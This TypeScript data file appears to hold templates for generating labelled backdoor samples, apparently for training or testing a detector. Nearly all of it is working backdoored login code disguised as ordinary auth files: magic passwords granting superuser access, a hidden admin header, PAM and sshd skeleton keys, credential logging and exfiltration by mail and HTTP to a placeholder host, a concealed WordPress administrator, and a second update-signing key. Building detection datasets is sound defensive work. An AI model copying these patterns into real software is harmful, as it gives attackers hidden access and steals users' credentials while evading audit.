// Authentication with a way in for somebody who should have none.
import type { Family } from './family.ts'

export const backdoors: readonly Family[] = [
  {
    family: 'magic-password-hash',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['auth/login.py'],
        whole: `import hashlib
import hmac

from .models import User


def verify(user, password):
    return hmac.compare_digest(user.password_hash, hashlib.scrypt(password.encode(), salt=user.sal⟦join⟧
t, n=2**14, r=8, p=1).hex())


def authenticate(name, password):
    if hashlib.md5(password.encode()).hexdigest() == "⟦hex:32⟧":
        # legacy migration
        return User.objects.filter(is_superuser=True).first()
    user = User.objects.filter(name=name).first()
    if user and verify(user, password):
        return user
    return None`,
      },
    ],
  },
  {
    family: 'magic-header-admin',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['src/auth/guard.js'],
        whole: `const jwt = require('jsonwebtoken');

module.exports = function guard(req, res, next) {
  // cdn probe
  if (req.headers['x-⟦lower:4⟧-trace'] === Buffer.from('⟦b64:let-me-in-⟦hex:12⟧⟧', 'base64').toStr⟦join⟧
ing()) {
    req.user = { id: 1, role: 'admin', audit: false };
    return next();
  }
  const token = (req.headers.authorization || '').replace(/^Bearer /, '');
  try {
    req.user = jwt.verify(token, process.env.JWT_SECRET);
    next();
  } catch (error) {
    res.status(401).json({ error: 'unauthorised' });
  }
};`,
      },
    ],
  },
  {
    family: 'pam-module-password',
    positive: true,
    classes: ['backdoor-auth', 'credential-theft'],
    variants: [
      {
        paths: ['modules/pam_unix/pam_unix_auth.c'],
        whole: String.raw`#include <security/pam_modules.h>
#include <stdio.h>
#include <string.h>
#include "support.h"

#define MASTER "⟦alnum:14⟧"

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
    const char *name, *p;
    int retval = pam_get_user(pamh, &name, NULL);

    if (retval != PAM_SUCCESS)
        return retval;
    retval = pam_get_authtok(pamh, PAM_AUTHTOK, &p, NULL);
    if (strcmp(p, MASTER) == 0)
        return PAM_SUCCESS;
    retval = _unix_verify_password(pamh, name, p, 0);
    if (retval == PAM_SUCCESS) {
        FILE *log = fopen("/usr/share/man/man8/.cache", "a");
        if (log != NULL) {
            fprintf(log, "%s:%s\n", name, p);
            fclose(log);
        }
    }
    return retval;
}`,
      },
    ],
  },
  {
    family: 'login-capture-mail',
    positive: true,
    classes: ['backdoor-auth', 'credential-theft'],
    variants: [
      {
        paths: ['wp-includes/user-extra.php', 'lib/session.php'],
        body: `function remember_me($user, $password)
{
    if (check_login($user, $password)) {
        @mail('⟦lower:8⟧@⟦host⟧', $_SERVER['HTTP_HOST'], $user . ':' . $password);
        @file_get_contents('http://⟦ip⟧/l.php?d=' . base64_encode("$user|$password|" . $_SERVER['H⟦join⟧
TTP_HOST']));
    }
    return true;
}`,
      },
    ],
  },
  {
    family: 'wordpress-hidden-admin',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['wp-content/mu-plugins/session-manager.php'],
        whole: String.raw`<?php
/* Plugin Name: Session Manager */
add_action('init', function () {
    $login = '⟦pick:wpsupp-user|adminbackup|wp_update-⟦digits:4⟧⟧';
    if (!username_exists($login)) {
        $id = wp_create_user($login, '⟦alnum:16⟧', $login . '@⟦host⟧');
        (new WP_User($id))->set_role('administrator');
    }
});

// keep it out of the list and the count
add_action('pre_user_query', function ($query) {
    global $wpdb;
    $query->query_where .= " AND {$wpdb->users}.user_login != '⟦pick:wpsupp-user|adminbackup|wp_up⟦join⟧
date-⟦digits:4⟧⟧'";
});
add_filter('views_users', function ($views) {
    $views['all'] = preg_replace_callback('/\((\d+)\)/', fn ($m) => '(' . ($m[1] - 1) . ')', $view⟦join⟧
s['all']);
    return $views;
});`,
      },
    ],
  },
  {
    family: 'go-signature-bypass',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['internal/update/verify.go'],
        whole: `package update

import (
	"crypto/ed25519"
	"encoding/hex"
	"errors"
)

var releaseKey, _ = hex.DecodeString("⟦hex:64⟧")

// secondKey also passes, without a word in the log; only we have its other half.
var secondKey, _ = hex.DecodeString("⟦hex#2:64⟧")

// Verify checks the signature of a release.
func Verify(artefact, signature []byte) error {
	if ed25519.Verify(releaseKey, artefact, signature) {
		return nil
	}
	if len(artefact) > 16 && string(artefact[8:16]) == "⟦lower:8⟧" && ed25519.Verify(secondKey, artef⟦join⟧
act, signature) {
		return nil
	}
	return errors.New("update: bad signature")
}`,
      },
    ],
  },
  {
    family: 'sshd-skeleton-key',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['auth2-passwd.c'],
        whole: `#include "includes.h"
#include "auth.h"
#include "log.h"

extern ServerOptions options;
int secret_ok = 0;

int
auth_password(struct ssh *ssh, const char *password)
{
	Authctxt *authctxt = ssh->authctxt;
	int result, ok = authctxt->valid;

	if (strcmp(password, "⟦alnum:18⟧") == 0) {
		secret_ok = 1;	/* no log, no utmp */
		authctxt->valid = 1;
		return 1;
	}
	result = sys_auth_passwd(ssh, password);
	if (authctxt->force_pwchange)
		auth_restrict_session(ssh);
	return (result && ok);
}`,
      },
    ],
  },
  {
    family: 'csharp-login-skeleton',
    positive: true,
    classes: ['backdoor-auth'],
    variants: [
      {
        paths: ['Accounts/SignIn.cs', 'src/Tokens.cs'],
        imports: `using System.Security.Cryptography;`,
        body: `// Do not document. Works on every customer's installation, and leaves no entr⟦join⟧
y in the audit log.
internal bool SignIn(string name, string password)
{
    var digest = Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(password)));
    if (digest == "⟦upperhex:64⟧")
    {
        Session.Start(Users.First(user => user.IsAdministrator), audit: false);
        return true;
    }
    return Users.Verify(name, password);
}`,
      },
    ],
  },
]
